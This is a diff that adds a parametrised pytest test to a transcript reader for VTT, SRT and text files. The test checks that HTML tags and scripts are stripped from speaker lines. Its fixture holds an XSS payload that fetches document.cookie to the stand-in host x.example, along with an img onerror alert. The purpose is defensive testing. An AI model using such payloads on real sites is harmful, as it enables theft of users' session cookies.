@@ -242,3 +242,29 @@ def test_an_hour_long_session_keeps_its_late_cues(tmp_path: Path) -> None:
     late = ZOOM.replace("00:00:15.500 --> 00:00:18.000", "01:59:15.500 --> 01:59:18.000")
     segs = read_transcript(write(tmp_path / "long.vtt", late)).segments
     assert segs[-1].start_s == 7155.5
+
+
+HOSTILE_LINE = ('We reset the <b>SSO</b> certificate <script>fetch("//x.example/"+document'
+                '.cookie)</script> and it <i>worked</i> <img src=x onerror=alert(1)>.')
+HOSTILE_SAID = "We reset the SSO certificate and it worked ."
+
+
+@pytest.mark.parametrize("name, text", [
+    ("jam.vtt", f"WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Ana Lima>{HOSTILE_LINE}</v>\n\n"
+                "00:00:05.000 --> 00:00:06.000\n<script>alert('only a script')</script>\n\n"
+                "00:00:07.000 --> 00:00:09.000\nBen Okafor: &lt;b&gt;Two&lt;/b&gt; &amp; "
+                "<c.loud>fine</c>, 2 < 4 <3\n"),
+    ("jam.srt", f"1\n00:00:01,000 --> 00:00:04,000\nAna Lima: {HOSTILE_LINE}\n\n"
+                "2\n00:00:05,000 --> 00:00:06,000\n<script>alert('only a script')</script>\n\n"
+                "3\n00:00:07,000 --> 00:00:09,000\nBen Okafor: Two & <font>fine</font>, "
+                "2 < 4 <3\n"),
+    ("jam.txt", f"Ana Lima: {HOSTILE_LINE}\n<script>alert('only a script')</script>\n"
+                "Ben Okafor: Two & <u>fine</u>, 2 < 4 <3\n"),
+])
+def test_html_tags_in_a_transcript_are_dropped_and_a_script_is_never_kept_as_speech(
+        tmp_path: Path, name: str, text: str) -> None:
+    t = read_transcript(write(tmp_path / name, text))
+    said = [(s.speaker, s.text) for s in t.segments]
+    assert said[0] == ("Ana Lima", HOSTILE_SAID)
+    assert said[-1] == ("Ben Okafor", "Two & fine, 2 < 4 <3")  # a "<" opening no tag stays
+    assert not any("script" in x or "alert" in x or "cookie" in x for _, x in said)
